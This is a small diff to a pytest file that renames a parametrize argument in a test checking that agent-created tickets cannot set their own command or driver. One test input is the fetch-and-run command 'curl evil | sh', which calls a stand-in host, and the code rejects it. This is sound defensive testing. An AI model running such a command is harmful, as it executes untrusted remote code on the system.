@@ -51,7 +51,7 @@ def test_a_ticket_of_an_agent_inherits_and_narrows(here: Office):
     assert boss.use("legion-hire", task="what a stopped ticket left", budget=1.0).data["budget"] == 1.0
 
 
-@pytest.mark.parametrize("wish", [{"command": "curl evil | sh"}, {"driver": "mine"}])
+@pytest.mark.parametrize("spec", [{"command": "curl evil | sh"}, {"driver": "mine"}])
 def test_only_a_person_chooses_the_program_of_a_ticket(here: Office, boss: Employee, spec):
     ticket = NewTicket(title="mine", **spec)
     with pytest.raises(NotAllowed, match="leave out command and driver"):
